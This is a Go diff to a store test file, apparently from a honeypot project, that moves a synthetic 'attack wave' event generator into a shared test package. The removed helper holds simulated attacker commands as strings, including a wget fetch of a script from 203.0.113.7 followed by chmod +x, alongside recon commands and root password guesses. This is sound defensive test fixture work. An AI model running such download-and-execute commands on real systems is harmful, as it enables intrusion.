@@ -2,11 +2,11 @@ package store
 
 import (
 	"context"
-	"fmt"
 	"path/filepath"
 	"testing"
 
 	"github.com/decnet-go/decnet/internal/event"
+	"github.com/decnet-go/decnet/internal/event/eventtest"
 )
 
 func openTest(tb testing.TB) *Store {
@@ -19,41 +19,10 @@ func openTest(tb testing.TB) *Store {
 	return st
 }
 
-// attackWave returns n events shaped like real traffic: sessions from many
-// sources, each a connect, password guesses, commands and a disconnect.
-func attackWave(n int) []event.Event {
-	out := make([]event.Event, 0, n)
-	for s := 0; len(out) < n; s++ {
-		ip := fmt.Sprintf("198.51.%d.%d", s/250%250, s%250+1)
-		sess := event.NewID()
-		mk := func(typ string) event.Event {
-			e := event.New(fmt.Sprintf("decky-%02d", s%8+1), []string{"ssh", "http", "telnet"}[s%3], typ)
-			e.SrcIP, e.SrcPort, e.DstIP, e.DstPort, e.Proto, e.Session = ip, 40000+s%20000, "10.0.0.5", 22, "tcp", sess
-			return e
-		}
-		out = append(out, mk(event.TypeConnect))
-		for i := 0; i < 3; i++ {
-			e := mk(event.TypeLoginAttempt)
-			e.Fields = map[string]any{"username": "root", "method": "password"}
-			e.Credential = event.NewCredential("root", "plaintext", []byte(fmt.Sprintf("pass%d", (s+i)%50)), event.OutcomeFailure)
-			out = append(out, e)
-		}
-		for _, c := range []string{"uname -a", "cat /proc/cpuinfo", "cd /tmp; wget http://203.0.113.7/x.sh", "chmod +x x.sh"} {
-			e := mk(event.TypeCommand)
-			e.Fields = map[string]any{"command": c, "cwd": "/root", "username": "root"}
-			out = append(out, e)
-		}
-		e := mk(event.TypeDisconnect)
-		e.Fields = map[string]any{"duration_s": 12.5, "bytes_in": 913}
-		out = append(out, e)
-	}
-	return out[:n]
-}
-
 func BenchmarkIngestBatch(b *testing.B) {
 	st := openTest(b)
 	ctx := context.Background()
-	events := attackWave(b.N)
+	events := eventtest.AttackWave(b.N)
 	b.ResetTimer()
 	for start := 0; start < len(events); start += 1000 {
 		if _, err := st.IngestBatch(ctx, events[start:min(start+1000, len(events))]); err != nil {
@@ -68,7 +37,7 @@ func BenchmarkIngestBatch(b *testing.B) {
 func TestIngestIdempotent(t *testing.T) {
 	st := openTest(t)
 	ctx := context.Background()
-	wave := attackWave(18)
+	wave := eventtest.AttackWave(18)
 	if res, err := st.IngestBatch(ctx, wave[:9]); err != nil || res.Inserted != 9 {
 		t.Fatalf("first batch: %+v, %v", res, err)
 	}
